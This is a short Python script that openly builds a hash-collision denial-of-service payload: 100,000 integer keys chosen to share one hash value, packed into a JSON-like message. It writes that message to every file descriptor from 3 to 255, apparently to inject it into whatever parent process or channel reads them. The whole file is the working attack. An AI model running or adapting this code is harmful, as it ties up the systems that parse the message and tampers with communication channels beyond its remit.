"""Send a mapping whose keys share one hash value, so that whoever makes it again is busy for hours."""
import os

PERIOD = 2**61 - 1
pairs = ",".join(f"[{number * PERIOD}, 0]" for number in range(100_000))
line = f'{{"item": "a_random_life#0", "data": {{"map": [{pairs}]}}}}\n'.encode()
for handle in range(3, 256):
    try:
        rest = memoryview(line)
        while rest:
            rest = rest[os.write(handle, rest) :]
    except OSError:
        pass
